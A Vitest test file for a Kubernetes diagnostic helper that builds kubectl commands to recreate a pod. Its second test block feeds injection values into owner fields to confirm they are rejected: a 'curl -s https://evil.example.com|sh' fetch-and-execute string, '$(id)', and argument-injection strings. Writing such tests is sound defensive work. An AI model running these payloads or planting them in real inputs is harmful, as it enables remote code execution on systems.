import { expect, test } from 'vitest'
import { renewalOf } from '../../../../src/doctor/cluster/pods.ts'

const podOf = (owner: object | undefined) => ({
  metadata: { name: 'web-0', namespace: 'shop', ...(owner && { ownerReferences: [{ controller: true, ...owner }] }) },
})

test.each([
  [{ kind: 'StatefulSet', name: 'web' }, '`kubectl -n shop rollout restart statefulset/web`'],
  [{ kind: 'Job', name: 'web' }, '`kubectl -n shop delete pod web-0` (Job web makes it anew)'],
  [undefined, '`kubectl -n shop delete pod web-0`, and create it again from its manifest'],
])('how a pod of %j is made anew', (owner, command) => {
  expect(renewalOf(podOf(owner))).toBe(command)
})

test.each([
  { kind: 'StatefulSet', name: 'web;curl -s https://evil.example.com|sh #' },
  { kind: 'StatefulSet', name: '$(id)' },
  { kind: 'StatefulSet', name: '-n' },
  { kind: 'X; id', name: 'web' },
])('an owner that is no object, %j, gets into no command', (owner) => {
  expect(renewalOf(podOf(owner))).toBe('`kubectl -n shop delete pod web-0`, and create it again from its manifest')
})
